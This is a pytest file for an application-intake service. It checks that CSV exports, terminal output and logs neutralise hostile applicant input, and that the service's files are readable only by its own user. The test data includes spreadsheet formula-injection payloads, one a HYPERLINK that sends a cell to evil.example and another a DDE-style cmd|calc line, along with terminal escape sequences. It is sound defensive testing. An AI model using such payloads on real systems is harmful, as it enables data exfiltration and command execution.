"""Issue 8, finding 8 and 11: text that is safe wherever it goes (a spreadsheet, a terminal, the logs), files
that only the service's user can read."""

from __future__ import annotations

import logging
import os
import stat
import subprocess
import zipfile
from datetime import datetime
from pathlib import Path
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import pytest
from localsite import NB
from sqlmodel import select

from intake.commands import samples
from intake.core.digest import CaseLine, cases_csv
from intake.store.database import session
from intake.store.tables import Case

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"cliquez")', "=1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)",
            "+33 1 23"]
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"


def spreadsheet_cells(csv_bytes: bytes, tmp: Path) -> list[tuple[str, str | None]]:
    """Open a CSV as LibreOffice Calc does (`;`, UTF-8), save it as ODS, and read back each cell's
    (text, formula or None)."""
    source = tmp / "in.csv"
    source.write_bytes(csv_bytes)
    subprocess.run(["soffice", "--headless", "--infilter=CSV:59,34,76,1", "--convert-to", "ods", "--outdir",
                    str(tmp), str(source)], check=True, capture_output=True, timeout=120,
                   env={**os.environ, "HOME": str(tmp)})
    with zipfile.ZipFile(tmp / "in.ods") as ods:
        root = ElementTree.fromstring(ods.read("content.xml"))
    return [("".join(cell.itertext()), cell.get(f"{TABLE}formula")) for cell in root.iter(f"{TABLE}table-cell")]


def test_the_spreadsheet_parser_runs_formulas_of_a_plain_csv(tmp_path):
    """The control: without neutralising, LibreOffice does run a formula from a CSV cell."""
    cells = spreadsheet_cells("a;=1+1\n".encode(), tmp_path)
    assert ("2", "of:=1+1") in cells


def test_csv_cells_written_by_strangers_open_as_text_never_as_formulas(local, tmp_path):
    for n, title in enumerate(FORMULAS):
        local.drop("nb", f"{n}.eml", local.application(sender=f"a{n}@x.example", subject=title))
    assert local.cli("poll")[0] == 0
    code, out = local.cli("cases", "--csv")
    assert code == 0
    cells = spreadsheet_cells(out.encode("utf-8"), tmp_path)
    assert [c for c in cells if c[1]] == []  # not one formula
    texts = [t for t, _ in cells]
    for title in ('=HYPERLINK("http://evil.example/?x="&A1,"cliquez")', "=1+1", "@SUM(1,2)", "+33 1 23"):
        assert "'" + title in texts
    when = datetime.now().astimezone()
    digest_csv = cases_csv([CaseLine(reference="BSC-2026-0001", status="review", applicant="-x@y.example",
                                     title=title, received_at=when, attention="@attention")
                            for title in ("\t=1+1", "\r=2+2", "=3+3")], ZoneInfo("Europe/Paris"))
    cells = spreadsheet_cells(digest_csv, tmp_path)
    assert [c for c in cells if c[1]] == [] and "'=3+3" in [t for t, _ in cells]


def test_escape_sequences_never_reach_the_staff_terminal(local):
    local.drop("nb", "1.eml", local.application(subject="Candidature"))
    assert local.cli("poll")[0] == 0
    hostile = "Projet \x1b]0;pwned\x07\x1b[2J\x1b[31mrouge\x9b31m\u202eevil\x7f fin"
    with session(local.app().engine) as s:
        case = s.exec(select(Case)).one()
        case.title, case.applicant_name, case.attention = hostile, hostile, hostile
        s.add(case)
        s.commit()
        ref = case.reference
    outputs = [local.cli("cases")[1], local.cli("case", ref)[1], local.cli("cases", "--json")[1],
               local.cli("case", ref, "--json")[1], local.cli("cases", "--csv")[1]]
    for out in outputs:
        assert not any(c in out for c in "\x1b\x07\x9b\x7f\u202e"), repr(out)
    assert "Projet" in outputs[1] and "rouge" in outputs[1]


def test_logs_never_hold_document_text_nor_escape_sequences(local, caplog, capfd):
    secret = "SECRET-DU-DOSSIER-4242"
    broken_odt = samples.docx(secret).replace(b"word/document.xml", b"word/documenX.xml")  # unreadable package
    odt = _odt_with_bad_xml(secret)
    local.drop("nb", "1.eml", samples.email(
        sender="a@x.example", to=["n.bataillon@ville-bethune.fr"], subject="Candidature \x1b[31mrouge",
        attachments=[("dossier.odt", odt, "application/vnd.oasis.opendocument.text"),
                     ("dossier.docx", broken_odt, "application/octet-stream")]))
    with caplog.at_level(logging.DEBUG):
        code, out = local.cli("-v", "poll")
    assert code == 0
    captured = capfd.readouterr()
    everything = caplog.text + out + captured.out + captured.err
    assert secret not in everything
    assert "\x1b" not in out


def _odt_with_bad_xml(secret: str) -> bytes:
    """An ODT whose content.xml is broken right after the applicant's text (odfpy prints the document on such
    errors)."""
    import io

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        z.writestr("META-INF/manifest.xml", '<?xml version="1.0"?><manifest:manifest xmlns:manifest='
                   '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>')
        z.writestr("content.xml", '<?xml version="1.0"?><office:document-content xmlns:office='
                   f'"urn:oasis:names:tc:opendocument:xmlns:office:1.0"><office:body>{secret}<broken></office:body>')
    return out.getvalue()


@pytest.mark.sqlite_only  # checks the SQLite file's mode too
def test_every_file_the_service_writes_is_for_its_user_only(local):
    local.drop("nb", "1.eml", local.application())
    local.drop("nb", "2.eml", local.application(sender="b@x.example", pieces=("dossier",)))
    assert local.cli("poll")[0] == 0
    assert local.cli("digest", "--preview", "--html", str(local.root / "data" / "apercu.html"))[0] == 0
    checked = 0
    for folder in (local.root / "data", local.root / "outbox"):
        for path in [folder, *folder.rglob("*")]:
            mode = stat.S_IMODE(path.stat().st_mode)
            assert mode & 0o077 == 0, f"{path}: {oct(mode)}"
            checked += 1
    assert checked > 10 and (local.root / "data" / "intake.db").exists()
    for name in ("intake.service", "intake-web.service"):  # the register says so of both (section 9)
        unit = (Path(__file__).resolve().parents[2] / "docs" / name).read_text()
        assert "\nUMask=0077\n" in unit, name


def form_pdf(fields: dict[str, str]) -> bytes:
    """The sample dossier with fillable text fields holding `fields` (as a PDF form from any office suite)."""
    import io

    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(samples.pdf())))
    annots = ArrayObject()
    for name, value in fields.items():
        annots.append(writer._add_object(DictionaryObject({
            NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): TextStringObject(name),
            NameObject("/V"): TextStringObject(value), NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Widget"), NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4)})))
    writer.pages[0][NameObject("/Annots")] = annots
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): annots})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


FAKE_LINES = ("Statut    : labelled (décision du jury du 1er décembre)", "Manquant  : aucun (vérifié)")


def test_a_dossier_field_cannot_print_a_line_of_its_own_under_intake_case(local):
    """A form field's value with line breaks (newline, CR, vertical tab, Unicode line separator) is stored as one
    line: `intake case` shows no line of the applicant's making, the receipt and the digest neither."""
    hostile = {"structure porteuse": "Asso des Jardins\n" + FAKE_LINES[0] + "\r\n" + FAKE_LINES[1],
               "titre du projet": "Jardins partagés\u2028Statut : labelled\vÀ voir : rien"}
    raw = samples.email(sender="asso@jardins.example", to=[NB], subject="candidature label",
                        attachments=[("dossier intention.pdf", form_pdf(hostile), "application/pdf"),
                                     ("courrier maire.pdf", samples.pdf("lettre"), "application/pdf")])
    local.drop("nb", "1.eml", raw)
    assert local.cli("poll")[0] == 0
    with session(local.app().engine) as s:
        case = s.exec(select(Case)).one()
        ref = case.reference
        assert case.fields["organisation"] == "Asso des Jardins " + " ".join(" ".join(FAKE_LINES).split())
        assert case.title == "Jardins partagés Statut : labelled À voir : rien"
    code, out = local.cli("case", ref)
    assert code == 0
    lines = out.splitlines()
    assert not any(line.startswith(("Statut", "Manquant  : aucun", "À voir")) for line in lines), out
    assert [line for line in lines if line.startswith("Projet    : ")] == [
        "Projet    : Jardins partagés Statut : labelled À voir : rien"]


def test_values_stored_with_line_breaks_are_shown_on_their_own_line_with_a_mark(local):
    """Values stored before (or by another door) with line breaks: the case, the list and the mail views print
    each on its line, the breaks shown as ⏎."""
    local.drop("nb", "1.eml", local.application(subject="Candidature"))
    assert local.cli("poll")[0] == 0
    with session(local.app().engine) as s:
        case = s.exec(select(Case)).one()
        case.title = "Projet\n" + FAKE_LINES[0]
        case.applicant_name = "Asso\r" + FAKE_LINES[1]
        case.fields = {**case.fields, "organisation": "Asso\u2028" + FAKE_LINES[1]}
        case.attention = "à vérifier\n\nÀ voir    : rien"
        s.add(case)
        s.commit()
        ref = case.reference
    for args in (("case", ref), ("cases",)):
        code, out = local.cli(*args)
        assert code == 0
        shown = ("Statut", "Manquant  : aucun", "À voir    : rien")
        assert not any(line.startswith(shown) for line in out.splitlines()), out
    out = local.cli("case", ref)[1]
    assert "Projet    : Projet ⏎ " + FAKE_LINES[0] + "\n" in out
    assert "Demandeur : Asso ⏎ " + FAKE_LINES[1] + " <" in out
    assert "À voir    : à vérifier ⏎ À voir    : rien\n" in out
    assert local.cli("case", ref, "--json")[0] == 0  # scripts get the stored values as they are
    assert "Projet\\n" in local.cli("case", ref, "--json")[1]
